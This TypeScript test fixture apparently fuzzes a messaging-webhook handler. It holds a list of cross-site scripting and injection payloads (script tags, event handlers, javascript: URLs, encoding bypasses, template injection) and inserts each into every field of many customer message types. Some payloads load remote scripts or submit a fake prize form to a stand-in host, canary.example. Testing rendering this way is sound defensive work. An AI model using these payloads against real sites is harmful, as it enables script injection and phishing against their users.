/** Whoever is asked by this name was asked by a customer's message. */
export const CANARY = "canary.example";

const ACT = "window.owned=1;alert(1)";
const LOAD = `//${CANARY}/x`;

/** Words that some page somewhere took for more than words. */
export const PAYLOADS: readonly string[] = [
  `<script>${ACT}</script>`,
  `<script src=${LOAD}></script>`,
  `<img src=x onerror=${ACT}>`,
  `<img src=${LOAD}>`,
  `<svg onload=${ACT}>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${ACT}'/>#x">`,
  `"><script>${ACT}</script>`,
  `'><img src=x onerror=${ACT}>`,
  `" onmouseover="${ACT}" x="`,
  `' onfocus='${ACT}' autofocus='`,
  `"autofocus onfocus=${ACT}//`,
  `</title><script>${ACT}</script>`,
  `</textarea><script>${ACT}</script>`,
  `</style><script>${ACT}</script>`,
  `</script><script>${ACT}</script>`,
  `--><script>${ACT}</script>`,
  `]]><script>${ACT}</script>`,
  `<iframe src=javascript:${ACT}></iframe>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<iframe src=${LOAD}></iframe>`,
  `<object data=javascript:${ACT}></object>`,
  `<embed src=${LOAD}>`,
  `<body onload=${ACT}>`,
  `<details open ontoggle=${ACT}>x</details>`,
  `<video><source onerror=${ACT}></video>`,
  `<video poster=${LOAD}></video>`,
  `<audio src=x onerror=${ACT}></audio>`,
  `<input autofocus onfocus=${ACT}>`,
  `<select autofocus onfocus=${ACT}>`,
  `<marquee onstart=${ACT}>x</marquee>`,
  `<math><mi xlink:href="javascript:${ACT}">x</mi></math>`,
  `<form action=${LOAD}><button>Win a phone</button></form>`,
  `<button formaction="javascript:${ACT}">x</button>`,
  `<meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<base href="https://${CANARY}/">`,
  `<link rel=stylesheet href=${LOAD}>`,
  `<link rel=dns-prefetch href=${LOAD}>`,
  `<style>@import '${LOAD}';</style>`,
  `<div style="background:url(${LOAD})">x</div>`,
  `<a href="javascript:${ACT}">tap</a>`,
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `java\tscript:${ACT}`,
  `\u0001javascript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `https://${CANARY}/"onmouseover="${ACT}`,
  `https://${CANARY}/<script>${ACT}</script>`,
  `https://good.example@${CANARY}/`,
  `[tap](javascript:${ACT})`,
  `![x](https://${CANARY}/x.png)`,
  `*<b onclick=${ACT}>bold</b>* _<i>x</i>_ ~<s>x</s>~ \`\`\`<u onclick=${ACT}>x</u>\`\`\``,
  `{{constructor.constructor('${ACT}')()}}`,
  "${alert(1)}",
  `&lt;script&gt;${ACT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ACT}&#62;`,
  `\\u003cscript\\u003e${ACT}\\u003c/script\\u003e`,
  `<scr\u0000ipt>${ACT}</scr\u0000ipt>`,
  `＜script＞${ACT}＜/script＞`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<template><script>${ACT}</script></template>`,
  `\u202e<script>${ACT}</script>\u2066`,
  `__proto__`,
];

let written = 0;

/** The same words wherever a customer's message can carry words. */
export function messagesWith(words: string, from: string): object[] {
  const message = (content: object) => {
    written += 1;
    const timestamp = String(Math.floor(Date.now() / 1000));
    return { id: `wamid.hostile${Date.now()}${written}`, from, timestamp, ...content };
  };
  const text = { type: "text", text: { body: words } };
  return [
    text,
    { ...text, referral: { source_url: words, headline: words, body: words, source_type: words } },
    { type: "image", image: { id: "1", mime_type: words, caption: words } },
    {
      type: "document",
      document: { id: "1", mime_type: "application/pdf", filename: words, caption: words },
    },
    {
      type: "contacts",
      contacts: [
        {
          name: { formatted_name: words, first_name: words },
          org: { company: words },
          phones: [{ phone: words, wa_id: words }],
          emails: [{ email: words }],
          urls: [{ url: words }],
        },
      ],
    },
    {
      type: "location",
      location: { latitude: 6.5, longitude: 3.3, name: words, address: words, url: words },
    },
    { type: "button", button: { text: words, payload: words } },
    {
      type: "interactive",
      interactive: { type: "list_reply", list_reply: { id: words, title: words, description: words } },
    },
    {
      type: "interactive",
      interactive: {
        type: "nfm_reply",
        nfm_reply: { name: words, body: words, response_json: JSON.stringify({ [words]: words }) },
      },
    },
    {
      type: "order",
      order: {
        catalog_id: words,
        text: words,
        product_items: [{ product_retailer_id: words, quantity: 1, item_price: 1, currency: words }],
      },
    },
    {
      type: words,
      [words]: { body: words },
      errors: [{ code: 131051, title: words, error_data: { details: words } }],
    },
    { type: "system", system: { body: words, type: words } },
  ].map(message);
}
